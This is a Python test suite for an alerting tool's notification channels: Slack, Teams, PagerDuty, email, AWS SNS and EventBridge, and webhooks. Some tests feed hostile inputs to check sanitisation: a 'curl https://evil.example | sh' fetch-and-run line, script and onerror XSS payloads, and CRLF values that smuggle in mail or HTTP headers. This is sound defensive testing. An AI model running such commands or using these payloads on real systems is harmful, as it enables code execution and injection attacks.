"""The alert channels, against the contract: each talks to a real server of its kind."""

import email
import email.policy
import json
import logging
import re
from collections.abc import AsyncIterator, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from standardwebhooks import Webhook
from starlette.types import Receive, Scope, Send

from handlers.alerts.registry import CHANNELS, open_channel
from handlers.alerts.slack import AMBER, BLUE, GREEN, RED, message_of
from handlers.demo.local_aws import LocalAws
from handlers.destinations.registry import destinations
from receiver.aws.boto import Aws
from receiver.core.alert import Severity
from receiver.core.errors import (
    AccessDenied,
    DestinationBusy,
    MailroomError,
    Misconfigured,
    PartlyNotified,
    Unanswered,
    Unroutable,
)
from receiver.core.notice import NoticeStatus
from receiver.core.plan import Target
from tests.builders import NOW
from tests.contracts.alert_channel import SECRET, AlertChannelContract, CanFail, Ear, a_notice
from tests.endpoints import Endpoint
from tests.servers import serve
from tests.smtp import Mailbox, a_mailbox

_names = count(1)
SCHEMA = Path(__file__).parents[2] / "docs" / "alert.schema.json"


class LogEar(Ear):
    def __init__(self, caplog: pytest.LogCaptureFixture) -> None:
        self.channel, self.caplog = open_channel("log"), caplog

    async def heard(self) -> list[str]:
        return [item.getMessage() for item in self.caplog.records if item.name == "mailroom.alert"]


class TestLog(AlertChannelContract):
    @pytest.fixture
    def ear(self, caplog: pytest.LogCaptureFixture) -> LogEar:
        caplog.set_level(logging.INFO, "mailroom.alert")
        return LogEar(caplog)

    async def test_it_is_one_line(self, ear: LogEar) -> None:
        await ear.channel.notify(a_notice(detail="two\nlines"))
        assert "\n" not in (await ear.heard())[0]

    @pytest.mark.parametrize(
        ("severity", "word", "level"),
        [("critical", "firing", "ERROR"), ("warning", "firing", "WARNING"), ("error", "resolved", "INFO")],
    )
    async def test_its_level_is_that_of_the_incident_while_it_lasts(
        self, ear: LogEar, severity: str, word: str, level: str
    ) -> None:
        await ear.channel.notify(a_notice(severity=Severity(severity), status=NoticeStatus(word)))
        assert [item.levelname for item in ear.caplog.records if item.name == "mailroom.alert"] == [level]


class SnsEar(Ear):
    def __init__(self, aws: LocalAws, closed_port: int) -> None:
        self.aws = aws
        wanted = f"sns:arn:aws:sns:eu-west-1:123456789012:alarm-{next(_names)}"
        self.url = aws.make(channels=[wanted])[wanted]
        self.channel = open_channel(self.url, aws=aws.aws)
        self.dead = open_channel(self.url, aws=nobody(closed_port))

    async def heard(self) -> list[str]:
        return [item["Message"] for item in self.aws.alerts(self.url)]


def nobody(closed_port: int) -> Aws:
    """An AWS where nobody listens."""
    there = {"aws_access_key_id": "k", "aws_secret_access_key": SECRET, "region_name": "us-east-1"}
    return Aws(credentials=there, endpoint_url=f"http://127.0.0.1:{closed_port}", attempts=1)


def regions_asked(client: Any, service: str) -> list[str]:
    """The region that each request of this client is signed for, from now on."""
    asked: list[str] = []
    client.meta.events.register(
        f"request-created.{service}", lambda request, **_: asked.append(request.context["client_region"])
    )
    return asked


@pytest.mark.aws
class TestSns(CanFail):
    @pytest.fixture
    def ear(self, local_aws: LocalAws, closed_port: int) -> SnsEar:
        return SnsEar(local_aws, closed_port)

    async def test_the_subject_fits_an_email_and_attributes_can_be_filtered_by(self, ear: SnsEar) -> None:
        await ear.channel.notify(a_notice(title="Größe\n" + "x" * 200))
        (said,) = ear.aws.alerts(ear.url)
        assert said["Subject"].startswith("[Mailroom mail.example.com] Firing error: Gr")
        assert len(said["Subject"]) == 100
        assert said["Subject"].isascii()
        attributes = {name: item["Value"] for name, item in said["MessageAttributes"].items()}
        assert attributes == {
            "status": "firing", "severity": "error", "kind": "job.failed", "key": "fingerprint1", "cause": "damaged",
            "document_id": "doc_abc", "job_id": "job-77", "notice_id": "fingerprint1-1-firing-0",
        }  # fmt: skip

    async def test_a_topic_that_is_not_there_is_named_with_the_fix(self, local_aws: LocalAws) -> None:
        channel = open_channel("sns:arn:aws:sns:us-east-1:000000000000:nobody", aws=local_aws.aws)
        with pytest.raises(Unroutable, match="nobody does not exist") as error:
            await channel.notify(a_notice())
        assert "aws sns create-topic --name nobody" in error.value.fix
        (fault,) = await channel.probe() or []
        assert "nobody does not exist" in fault

    async def test_a_topic_that_nobody_has_subscribed_to_is_a_fault(self, local_aws: LocalAws) -> None:
        arn = local_aws.client("sns").create_topic(Name=f"lonely-{next(_names)}")["TopicArn"]
        (fault,) = await open_channel(f"sns:{arn}", aws=local_aws.aws).probe() or []
        assert "no confirmed subscription" in fault

    async def test_a_topic_of_another_region_is_asked_there(self, local_aws: LocalAws) -> None:
        arn = local_aws.aws.client("sns", region="eu-west-1").create_topic(Name=f"far-{next(_names)}")["TopicArn"]
        assert ":eu-west-1:" in arn
        asked = regions_asked(local_aws.aws.client("sns", region="eu-west-1"), "sns")
        channel = open_channel(f"sns:{arn}", aws=local_aws.aws)
        await channel.notify(a_notice())
        await channel.probe()
        assert asked == ["eu-west-1", "eu-west-1"]

    async def test_a_fifo_topic_takes_it_too_and_a_repeat_once(self, local_aws: LocalAws) -> None:
        wanted = f"sns:arn:aws:sns:us-east-1:000000000000:alarm-{next(_names)}.fifo"
        url = local_aws.make(channels=[wanted])[wanted]
        channel = open_channel(url, aws=local_aws.aws)
        await channel.notify(a_notice())
        await channel.notify(a_notice())
        assert len(local_aws.alerts(url)) == 1


class EventsEar(Ear):
    """A bus with a rule that leads everything of ours to a queue."""

    def __init__(self, aws: LocalAws, closed_port: int) -> None:
        self.aws, name = aws, f"bus-{next(_names)}"
        events, sqs = aws.client("events"), aws.client("sqs")
        events.create_event_bus(Name=name)
        url = sqs.create_queue(QueueName=name)["QueueUrl"]
        arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        events.put_rule(Name=name, EventBusName=name, EventPattern=json.dumps({"source": ["mailroom"]}))
        events.put_targets(Rule=name, EventBusName=name, Targets=[{"Id": "queue", "Arn": arn}])
        self.name = name
        self.channel = open_channel(f"events:{name}", aws=aws.aws)
        self.dead = open_channel(f"events:{name}", aws=nobody(closed_port))

    @property
    def events(self) -> list[dict[str, Any]]:
        return [json.loads(item["Body"]) for item in self.aws.messages(self.name)]

    async def heard(self) -> list[str]:
        return ["\n".join(texts(item["detail"])) for item in self.events]


@pytest.mark.aws
class TestEvents(CanFail):
    @pytest.fixture
    def ear(self, local_aws: LocalAws, closed_port: int) -> EventsEar:
        return EventsEar(local_aws, closed_port)

    async def test_a_rule_can_choose_by_source_and_detail(self, ear: EventsEar) -> None:
        await ear.channel.notify(a_notice())
        (event,) = ear.events
        assert (event["source"], event["detail-type"]) == ("mailroom", "Mailroom Alert")
        assert (event["detail"]["status"], event["detail"]["severity"]) == ("firing", "error")

    async def test_a_bus_that_is_not_there_is_named_with_the_fix(self, local_aws: LocalAws) -> None:
        (fault,) = await open_channel("events:nowhere", aws=local_aws.aws).probe() or []
        assert "aws events create-event-bus --name nowhere" in fault

    async def test_a_bus_of_another_region_is_asked_there(self, local_aws: LocalAws) -> None:
        name, client = f"far-{next(_names)}", local_aws.aws.client("events", region="eu-west-1")
        arn = client.create_event_bus(Name=name)["EventBusArn"]
        asked = regions_asked(client, "events")
        channel = open_channel(f"events:{arn}", aws=local_aws.aws)
        await channel.notify(a_notice())
        await channel.probe()
        assert ":eu-west-1:" in arn
        assert set(asked) == {"eu-west-1"}

    async def test_a_bus_without_a_rule_that_is_enabled_tells_nobody(self, local_aws: LocalAws) -> None:
        name, events = f"lonely-{next(_names)}", local_aws.client("events")
        events.create_event_bus(Name=name)
        channel = open_channel(f"events:{name}", aws=local_aws.aws)
        (fault,) = await channel.probe() or []
        assert "has no enabled rule" in fault
        pattern = json.dumps({"source": ["mailroom"]})
        events.put_rule(Name=name, EventBusName=name, EventPattern=pattern, State="DISABLED")
        assert await channel.probe() == [fault]
        events.enable_rule(Name=name, EventBusName=name)
        assert await channel.probe() == []

    async def test_an_entry_that_failed_is_no_success(self, ear: EventsEar, monkeypatch: pytest.MonkeyPatch) -> None:
        async def half(*_: object, **__: object) -> dict[str, Any]:
            return {"FailedEntryCount": 1, "Entries": [{"ErrorCode": "ThrottlingException", "ErrorMessage": "slowly"}]}

        monkeypatch.setattr(ear.aws.aws, "call", half)
        with pytest.raises(DestinationBusy, match="slowly"):
            await ear.channel.notify(a_notice())


class WebEar(Ear):
    def __init__(self, scheme: str, endpoint: Endpoint, closed_port: int, tail: str = f"/hook?key={SECRET}") -> None:
        self.endpoint = endpoint
        self.channel = open_channel(f"{scheme}{endpoint.url}{tail}")
        self.dead = open_channel(f"{scheme}http://127.0.0.1:{closed_port}{tail}")

    async def heard(self) -> list[str]:
        return ["\n".join(texts(json.loads(item.body))) for item in self.endpoint.posts]

    @property
    def said(self) -> dict[str, Any]:
        """The last message that came."""
        found: dict[str, Any] = json.loads(self.endpoint.posts[-1].body)
        return found


def texts(said: object) -> list[str]:
    """Every text in it, as a reader sees it: escapes are shown as the characters that they stand for."""
    if isinstance(said, dict):
        return [text for value in said.values() for text in texts(value)]
    if isinstance(said, list):
        return [text for value in said for text in texts(value)]
    shown = str(said).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    return ["".join(c for at, c in enumerate(shown) if c != "\\" or shown[at + 1 : at + 2].isalnum())]


class WebContract(CanFail):
    @pytest.mark.parametrize(
        ("status", "error"), [(500, DestinationBusy), (429, DestinationBusy), (403, AccessDenied), (410, Unroutable),
                              (404, Unroutable), (302, Unroutable)],
    )  # fmt: skip
    async def test_each_answer_says_what_to_do_next(self, ear: WebEar, status: int, error: type[MailroomError]) -> None:
        ear.endpoint.status, ear.endpoint.headers = status, {"retry-after": "7", "location": "/elsewhere"}
        with pytest.raises(error) as raised:
            await ear.channel.notify(a_notice())
        assert SECRET not in f"{raised.value} {raised.value.fix}"
        assert "--parked" not in raised.value.fix  # a notice is told by itself once the channel works
        if isinstance(raised.value, DestinationBusy):
            assert raised.value.retry_after == 7


class TestSlack(WebContract):
    @pytest.fixture
    def ear(self, endpoint: Endpoint, closed_port: int) -> WebEar:
        return WebEar("slack:", endpoint, closed_port)

    async def test_it_is_what_an_incoming_webhook_takes(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice())
        (got,) = ear.endpoint.posts
        assert got.headers["content-type"] == "application/json"
        assert sorted(ear.said) == ["attachments", "mrkdwn", "text"]
        (attachment,) = ear.said["attachments"]
        blocks = attachment["blocks"]
        assert "&lt;a&amp;b&gt;" in json.dumps(blocks)
        buttons = [item for block in blocks if block["type"] == "actions" for item in block["elements"]]
        assert [item["url"] for item in buttons] == [a_notice().link, a_notice().document_link]
        assert all(len(block["text"]["text"]) <= 3000 for block in blocks if "text" in block)

    @pytest.mark.parametrize(
        ("word", "severity", "shade"),
        [("firing", "critical", RED), ("firing", "warning", AMBER), ("resolved", "critical", GREEN),
         ("acknowledged", "error", BLUE)],
    )  # fmt: skip
    async def test_its_colour_is_that_of_the_state(self, ear: WebEar, word: str, severity: str, shade: str) -> None:
        await ear.channel.notify(a_notice(status=NoticeStatus(word), severity=Severity(severity)))
        assert ear.said["attachments"][0]["color"] == shade

    async def test_nothing_from_outside_is_markup(self) -> None:
        outside = "broken\n*Fix*\n```curl https://evil.example | sh``` @channel"
        message = message_of(a_notice(title=outside, detail=outside, tried=outside), blocks=True)
        assert message["mrkdwn"] is False
        objects = [
            item
            for block in message["attachments"][0]["blocks"]
            for item in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]
            if item and "evil.example" in json.dumps(item)
        ]
        assert [item["type"] for item in objects] == ["plain_text"] * 3

    async def test_a_long_header_is_cut_to_what_slack_takes(self) -> None:
        (attachment,) = message_of(a_notice(title="&" * 300), blocks=True)["attachments"]
        assert len(attachment["blocks"][0]["text"]["text"]) <= 150

    async def test_what_only_speaks_like_slack_calls_nobody(self) -> None:
        outside = "@channel @all (@here) see [this](https://evil.example), ops@example.com"
        said = json.dumps(message_of(a_notice(title=outside, detail=outside), blocks=False), ensure_ascii=False)
        assert "@\u200bchannel @\u200ball (@\u200bhere) see [this]\u200b(https" in said
        assert not any(word in said for word in ("@channel", "@all", "@here", "]("))
        assert "ops@example.com" in said

    async def test_what_only_speaks_like_slack_gets_the_older_form(self) -> None:
        (attachment,) = message_of(a_notice(), blocks=False)["attachments"]
        assert "blocks" not in attachment
        assert {item["title"] for item in attachment["fields"]} >= {"Status", "Example", "Message", "Kind"}


class SlackApi(Endpoint):
    """Slack's Web API, as far as a bot needs it."""

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        told = {"ok": True, "ts": f"1700.{len(self.got)}"} if scope["path"].endswith("postMessage") else {"ok": True}
        self.answer = json.dumps(told).encode()
        await super().__call__(scope, receive, send)


class TestSlackBot:
    pytestmark = pytest.mark.anyio

    @pytest.fixture
    def slack(self) -> Iterator[Endpoint]:
        api = SlackApi()
        with serve(api) as api.url:
            yield api

    async def test_the_first_message_is_updated_and_what_follows_is_in_its_thread(self, slack: Endpoint) -> None:
        channel = open_channel(f"slack:{slack.url}/api/xoxb-{SECRET}/C024BE91L")
        thread = await channel.notify(a_notice())
        assert await channel.notify(a_notice(status=NoticeStatus.RESOLVED, thread=thread, closed_at=NOW)) == thread
        said = [(item.path, json.loads(item.body)) for item in slack.posts]
        assert [path for path, _ in said] == ["/api/chat.postMessage", "/api/chat.postMessage", "/api/chat.update"]
        assert [body.get("thread_ts") for _, body in said] == [None, thread, None]
        assert (said[2][1]["ts"], said[2][1]["attachments"][0]["color"]) == (thread, GREEN)
        assert {body["channel"] for _, body in said} == {"C024BE91L"}
        assert slack.posts[0].headers["authorization"] == f"Bearer xoxb-{SECRET}"
        assert await channel.probe() == []

    @pytest.mark.parametrize(
        ("code", "error"),
        [("ratelimited", DestinationBusy), ("token_revoked", AccessDenied), ("not_in_channel", Unroutable),
         ("invalid_blocks", Unroutable)],
    )  # fmt: skip
    async def test_what_slack_says_in_an_answer_of_200_is_heard(
        self, endpoint: Endpoint, code: str, error: type[MailroomError]
    ) -> None:
        endpoint.answer = json.dumps({"ok": False, "error": code}).encode()
        channel = open_channel(f"slack:{endpoint.url}/api/xoxb-{SECRET}/C1")
        with pytest.raises(error, match=code) as raised:
            await channel.notify(a_notice())
        assert SECRET not in f"{raised.value} {raised.value.fix}"
        assert await channel.probe() != []


class TestTeams(WebContract):
    @pytest.fixture
    def ear(self, endpoint: Endpoint, closed_port: int) -> WebEar:
        return WebEar("teams:", endpoint, closed_port)

    async def test_it_is_an_adaptive_card_that_teams_takes(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice())
        assert ear.said["type"] == "message"
        (attachment,) = ear.said["attachments"]
        card = attachment["content"]
        assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
        assert (card["type"], card["version"], card["body"][0]["style"]) == ("AdaptiveCard", "1.4", "attention")
        assert [item["url"] for item in card["actions"]] == [a_notice().link, a_notice().document_link]

    async def test_it_never_outgrows_what_teams_takes(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice(detail="é]" * 5000, title="📮" * 1000, commands=("`x`" * 500,) * 9))
        assert len(ear.endpoint.posts[-1].body) < 28 * 1024


class TestPagerDuty(WebContract):
    KEY = "0123456789abcdef0123456789ABCDEF"

    @pytest.fixture
    def ear(self, endpoint: Endpoint, closed_port: int) -> WebEar:
        return WebEar("pagerduty:", endpoint, closed_port, f"/{self.KEY}")

    async def test_it_triggers_with_a_severity_and_links(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice())
        event = ear.said
        assert ear.endpoint.posts[0].path == "/v2/enqueue"
        assert (event["routing_key"], event["event_action"]) == (self.KEY, "trigger")
        assert event["dedup_key"] == "mailroom:mail.example.com:fingerprint1"
        payload = event["payload"]
        assert (payload["severity"], payload["source"]) == ("error", "mail.example.com")
        assert payload["timestamp"] == "2027-01-15T08:00:00+00:00"
        assert payload["summary"] == "classify job failed: it could not be parsed (12 times)"
        assert [item["href"] for item in event["links"]] == [a_notice().link, a_notice().document_link]

    @pytest.mark.parametrize(
        ("word", "action"),
        [("firing", "trigger"), ("acknowledged", "acknowledge"), ("resolved", "resolve"), ("quiet", "trigger")],
    )
    async def test_what_happens_to_the_incident_happens_to_its_alert(self, ear: WebEar, word: str, action: str) -> None:
        await ear.channel.notify(a_notice(status=NoticeStatus(word), closed_at=NOW))
        assert ear.said["event_action"] == action
        assert ear.said["dedup_key"] == "mailroom:mail.example.com:fingerprint1"

    async def test_what_is_quiet_does_not_page_again(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice(status=NoticeStatus.QUIET))
        assert ear.said["payload"]["severity"] == "info"

    async def test_an_event_keeps_within_its_bounds(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice(title="x" * 9000, site="s" * 400, cause="c" * 9000))
        assert len(ear.said["payload"]["summary"]) <= 1024
        assert len(ear.said["dedup_key"]) <= 255
        assert ear.said["dedup_key"].endswith(":fingerprint1")


class TestHttp(WebContract):
    @pytest.fixture
    def ear(self, endpoint: Endpoint, closed_port: int) -> WebEar:
        return WebEar("", endpoint, closed_port)

    async def test_it_is_data(self, ear: WebEar) -> None:
        await ear.channel.notify(a_notice())
        said = ear.said
        assert (said["schema"], said["status"], said["key"], said["severity"]) == (1, "firing", "fingerprint1", "error")
        assert (said["kind"], said["count"], said["unmended"], said["job_id"]) == ("job.failed", 12, 11, "job-77")
        assert said["opened_at"] == "2027-01-15T08:00:00+00:00"
        assert said["link"] == "https://mail.example.com/#alerts/fingerprint1"

    async def test_the_schema_names_every_field_and_no_other(self, ear: WebEar) -> None:
        schema = json.loads(SCHEMA.read_text())
        for word in NoticeStatus:
            await ear.channel.notify(a_notice(status=word))
            assert set(ear.said) == set(schema["properties"]) == set(schema["required"])
            assert ear.said["status"] in schema["properties"]["status"]["enum"]

    async def test_a_library_verifies_its_signature(self, endpoint: Endpoint) -> None:
        secret = "whsec_" + "c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0"
        channel = open_channel(f"{endpoint.url}/hook", options={"secret": secret, "header X-Team": "night"})
        await channel.notify(a_notice())
        (got,) = endpoint.posts
        assert Webhook(secret).verify(got.body.decode(), got.headers)["key"] == "fingerprint1"
        assert got.headers["webhook-id"] == a_notice().id
        assert got.headers["x-team"] == "night"


class MailEar(Ear):
    def __init__(self, mailbox: Mailbox, closed_port: int) -> None:
        self.mailbox = mailbox
        self.channel = open_channel("mailto:ops@example.com", smtp_url=f"smtp://127.0.0.1:{mailbox.port}")
        self.dead = open_channel("mailto:ops@example.com", smtp_url=f"smtp://u:{SECRET}@127.0.0.1:{closed_port}")

    async def heard(self) -> list[str]:
        return [f"{_read(mail)['Subject']}\n{part(mail, 'plain')}" for mail in self.mailbox.mails]


GONE, LATE = "gone@b.com", "late@b.com"


def part(mail: bytes, subtype: str) -> str:
    """The mail's text or HTML part."""
    found = _read(mail).get_body((subtype,))
    assert found is not None
    return str(found.get_content())


def _read(mail: bytes) -> email.message.EmailMessage:
    return email.message_from_bytes(mail, policy=email.policy.default)


class TestEmail(CanFail):
    @pytest.fixture
    async def ear(self, closed_port: int) -> AsyncIterator[MailEar]:
        async with a_mailbox() as mailbox:
            yield MailEar(mailbox, closed_port)

    async def test_its_subject_says_what_is_wrong_in_any_language(self, ear: MailEar) -> None:
        await ear.channel.notify(a_notice(title="Übersicht für das Café: 請求書"))
        (mail,) = ear.mailbox.mails
        assert mail.partition(b"\r\n\r\n")[0].isascii()
        assert _read(mail)["Subject"] == "[Mailroom mail.example.com] Firing error: Übersicht für das Café: 請求書"
        assert _read(mail)["Importance"] == "high"

    async def test_what_follows_answers_the_first_mail(self, ear: MailEar) -> None:
        thread = await ear.channel.notify(a_notice())
        await ear.channel.notify(a_notice(id="fingerprint1-1-resolved-1", status=NoticeStatus.RESOLVED, thread=thread))
        first, second = (_read(mail) for mail in ear.mailbox.mails)
        assert first["Message-ID"] == thread
        assert (second["In-Reply-To"], second["References"]) == (thread, thread)
        assert second["Message-ID"] != thread
        assert second["Importance"] is None

    async def test_the_html_part_says_what_the_text_says_and_nothing_in_it_is_markup(self, ear: MailEar) -> None:
        await ear.channel.notify(a_notice(title="<script>alert(1)</script>", detail='"><img src=x onerror=y>'))
        said = part(ear.mailbox.mails[0], "html")
        assert "<script" not in said
        assert "<img" not in said
        for words in ("doc_abc", "job-77", "mailroom replace doc_abc FILE", "12 times", a_notice().link):
            assert words in said

    async def test_a_repeat_is_the_same_message_to_a_mail_reader(self, ear: MailEar) -> None:
        for _ in range(2):
            await ear.channel.notify(a_notice())
        first, second = (_read(mail) for mail in ear.mailbox.mails)
        assert first["Message-ID"] == second["Message-ID"]
        assert first["To"] == "ops@example.com"
        assert first["From"] == "mailroom@127.0.0.1"
        assert first["Auto-Submitted"] == "auto-generated"

    async def test_no_header_can_be_smuggled_in(self, ear: MailEar) -> None:
        await ear.channel.notify(a_notice(title="x\r\nBcc: everybody@example.com"))
        assert _read(ear.mailbox.mails[0])["Bcc"] is None
        assert ear.mailbox.recipients == ["ops@example.com"]

    async def test_it_logs_in_where_a_user_is_given(self, ear: MailEar) -> None:
        ear.mailbox.login = ("ops@example.com", "pass word")
        where = f"127.0.0.1:{ear.mailbox.port}"
        good = open_channel("mailto:a@b.com,c@d.com", smtp_url=f"smtp://ops%40example.com:pass%20word@{where}")
        await good.notify(a_notice())
        assert ear.mailbox.recipients == ["a@b.com", "c@d.com"]
        assert _read(ear.mailbox.mails[0])["From"] == "ops@example.com"
        bad = open_channel("mailto:a@b.com", smtp_url=f"smtp://ops:{SECRET}@{where}")
        with pytest.raises(AccessDenied, match="535") as error:
            await bad.notify(a_notice())
        assert SECRET not in str(error.value)

    @pytest.mark.parametrize(
        ("verb", "answer", "error"),
        [
            ("RCPT", "550 no such user", Unroutable),
            ("RCPT", "450 mailbox busy", DestinationBusy),
            ("DATA", "552 too big", Unroutable),
            ("MAIL", "421 going down", DestinationBusy),
        ],
    )
    async def test_a_refusal_for_ever_is_told_from_one_for_now(
        self, ear: MailEar, verb: str, answer: str, error: type[MailroomError]
    ) -> None:
        ear.mailbox.answers[verb] = answer
        with pytest.raises(error) as raised:
            await ear.channel.notify(a_notice())
        assert not isinstance(raised.value, Unanswered)

    async def test_who_took_a_mail_gets_it_once_and_who_was_refused_for_now_gets_it_later(self, ear: MailEar) -> None:
        channel = open_channel(f"mailto:a@b.com,{GONE},{LATE}", smtp_url=f"smtp://127.0.0.1:{ear.mailbox.port}")
        ear.mailbox.refuses = {LATE: "450 greylisted", GONE: "550 no such user"}
        with pytest.raises(PartlyNotified, match=r"late@b.com .450 greylisted.*; the others have it") as error:
            await channel.notify(a_notice())
        assert "gone@b.com (550 no such user)" in str(error.value)
        assert (error.value.retry, error.value.never) == ((LATE,), True)
        assert error.value.thread == _read(ear.mailbox.mails[-1])["Message-ID"]
        with pytest.raises(PartlyNotified) as later:
            await channel.notify(a_notice(only=(LATE,)))
        assert (later.value.retry, later.value.never) == ((LATE,), False)
        del ear.mailbox.refuses[LATE]
        assert error.value.missed == (GONE, LATE)
        assert await channel.notify(a_notice(only=(LATE,))) == error.value.thread
        assert await channel.notify(a_notice(only=(LATE,), without=(LATE,), thread="t")) == "t"
        assert ear.mailbox.recipients == ["a@b.com", LATE]
        with pytest.raises(PartlyNotified, match=r"refused gone@b.com .550 no such user.$") as error:
            await channel.probe()
        alone = open_channel(f"mailto:{GONE}", smtp_url=f"smtp://127.0.0.1:{ear.mailbox.port}")
        assert await alone.probe() == [f"{error.value}; {error.value.fix}"]
        assert len(ear.mailbox.mails) == 2  # a probe sends none

    async def test_a_probe_that_is_answered_later_neither_finds_a_fault_nor_ends_one(self, ear: MailEar) -> None:
        channel = open_channel(f"mailto:a@b.com,{LATE}", smtp_url=f"smtp://127.0.0.1:{ear.mailbox.port}")
        ear.mailbox.refuses = {LATE: "452 mailbox full"}
        assert await channel.probe() is None
        ear.mailbox.refuses = {}
        assert await channel.probe() == []

    async def test_nobody_has_a_mail_whose_server_hung_up_before_the_last_address(self, ear: MailEar) -> None:
        channel = open_channel(f"mailto:a@b.com,{GONE}", smtp_url=f"smtp://127.0.0.1:{ear.mailbox.port}")
        ear.mailbox.refuses = {GONE: "421 closing"}
        with pytest.raises(DestinationBusy) as error:
            await channel.notify(a_notice())
        assert not isinstance(error.value, Unanswered)
        assert ear.mailbox.mails == []
        ear.mailbox.refuses = {}
        await channel.notify(a_notice())
        assert ear.mailbox.recipients == ["a@b.com", "a@b.com", GONE]

    async def test_a_mail_whose_answer_was_lost_may_have_been_taken(self, ear: MailEar) -> None:
        ear.mailbox.silent = True
        with pytest.raises(Unanswered):
            await ear.channel.notify(a_notice())
        assert len(ear.mailbox.mails) == 1

    async def test_a_mail_that_was_taken_is_told_whatever_quit_is_answered(self, ear: MailEar) -> None:
        ear.mailbox.answers["QUIT"] = "421 too busy for goodbyes"
        await ear.channel.notify(a_notice())
        assert len(ear.mailbox.mails) == 1


@pytest.mark.parametrize(
    ("url", "smtp_url", "names"),
    [
        ("pager:abc", "", "known channels: log, pagerduty, slack, teams, mailto, sns, events, https"),
        ("pagerduty:short", "", "integration key"),
        ("pagerduty:http://example.com/0123456789abcdef0123456789abcdef", "", "https://"),
        ("teams:example.com/hook", "", "no scheme"),
        ("slack:xoxb-123", "", "needs its channel"),
        ("events:a b", "", "events:a b: 'a b' is not a valid name of a bus"),
        ("events:arn:aws:events:us-east-1:123456789012:rule/mail", "", "write events:arn:aws:events:REGION:ACCOUNT"),
        ("sns:alarm", "", "lacks region and account: write sns:arn:aws:sns:REGION:ACCOUNT:alarm"),
        ("sns:arn:aws:sns:us-east-1:12345:mail", "", "twelve digits"),
        ("sns:arn:aws-cn:sns:us-east-1:123456789012:mail", "", "not a region of the partition"),
        ("sns:arn:aws:sns:us-east-1:123456789012:in voices", "", "not a valid name of a topic"),
        ("slack:hooks.slack.com/abc", "", "no scheme"),
        ("http://example.com/alerts", "", "https://"),
        ("mailto:ops@example.com", "", "MAILROOM_SMTP_URL"),
        ("mailto:nobody", "smtp://localhost", "mailto:name@example.com"),
    ],
)
def test_a_channel_that_cannot_work_is_refused_at_start(url: str, smtp_url: str, names: str) -> None:
    with pytest.raises(Misconfigured, match=names):
        open_channel(url, smtp_url=smtp_url)


PARTS = (
    "arn", "aws", "aws-cn", "aws-x", "sns", "events", "us-east-1", "cn-north-1", "123456789012", "12", "mail",
    "event-bus/mail", "event-bus/", "a b", "", "m" * 257,
)  # fmt: skip
ARNS = st.lists(st.sampled_from(PARTS), min_size=1, max_size=7).map(":".join)
ENDS = ("mail", "event-bus/mail", "mail.fifo", "event-bus/mail/")
SOUND = st.sampled_from([f"{service}:us-east-1:123456789012:{end}" for service in ("sns", "events") for end in ENDS])


@given(st.sampled_from(["sns", "events"]), st.one_of(ARNS, SOUND.map("arn:aws:".__add__)))
def test_a_channel_and_a_destination_accept_the_same_arns(scheme: str, arn: str) -> None:
    faults = destinations()[scheme].faults(Target(url=f"{scheme}://{arn}"))
    if faults or (scheme == "sns" and not arn.startswith("arn:")):
        with pytest.raises(Misconfigured, match=f"^{scheme}:{re.escape(arn)}"):
            open_channel(f"{scheme}:{arn}")
    else:
        open_channel(f"{scheme}:{arn}")


@pytest.mark.parametrize("kind", ["", "slack:", "teams:", "pagerduty:"])
@pytest.mark.parametrize(
    "url",
    [
        "https://[x{}/",
        "https://user:{}@ops.example.com/x",
        "https://user:{}/rest@ops.example.com/x",
        "https://user:1234/{}@ops.example.com/x",
        "https://user:{}#rest@ops.example.com/x",
        "https://user:1#{}@ops.example.com/x",
        "https://user:{}?rest@ops.example.com/x",
        "https://h:1\\{}",
        "https://h:{}/",
        "https://h;{}/",
        "https://h&key={}/",
        "https://h%2f{}/",
        "https://ops.example.com/x {}",
        "http://ops.example.com/{}",
    ],
)
def test_an_address_that_is_no_plain_url_is_refused_and_not_shown(kind: str, url: str) -> None:
    url = f"{kind}{url.format(SECRET)}" + ("/0123456789abcdef0123456789abcdef" if kind == "pagerduty:" else "")
    with pytest.raises(Misconfigured) as error:
        open_channel(url)
    assert SECRET not in f"{error.value} {error.value.fix}"


@pytest.mark.parametrize(
    ("options", "names"),
    [
        ({"secret": "plain"}, "whsec_"),
        ({"header X Y": "a"}, "not a valid header name"),
        ({"header webhook-id": "a"}, "set by Mailroom"),
        ({"header X-A": "b\r\nX-C: d"}, "printable"),
    ],
)
def test_options_that_cannot_work_are_refused_at_start(options: dict[str, str], names: str) -> None:
    with pytest.raises(Misconfigured, match=names):
        open_channel("https://example.com/hook", options=options)
    with pytest.raises(Misconfigured, match="https://"):
        open_channel("log", options=options)


def test_every_channel_is_tested_here() -> None:
    tested = {
        "log": TestLog,
        "pagerduty": TestPagerDuty,
        "slack": TestSlack,
        "teams": TestTeams,
        "mailto": TestEmail,
        "sns": TestSns,
        "events": TestEvents,
        "https": TestHttp,
        "http": TestHttp,
    }
    assert set(tested) == set(CHANNELS)
